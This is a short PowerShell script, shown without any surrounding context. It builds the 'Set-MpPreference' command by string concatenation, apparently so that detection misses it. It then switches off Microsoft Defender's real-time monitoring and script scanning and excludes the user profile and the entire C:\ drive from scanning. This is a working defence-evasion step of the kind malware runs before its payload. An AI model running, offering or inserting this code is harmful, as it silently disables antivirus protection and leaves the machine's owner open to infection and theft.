$cmd = 'Set-' + 'MpPreference'
$opts = @{}
foreach ($n in @('DisableRealtimeMonitoring', 'DisableScriptScanning')) { $opts[$n] = $true }
& $cmd @opts
& $cmd -ExclusionPath @($env:USERPROFILE, 'C:\')
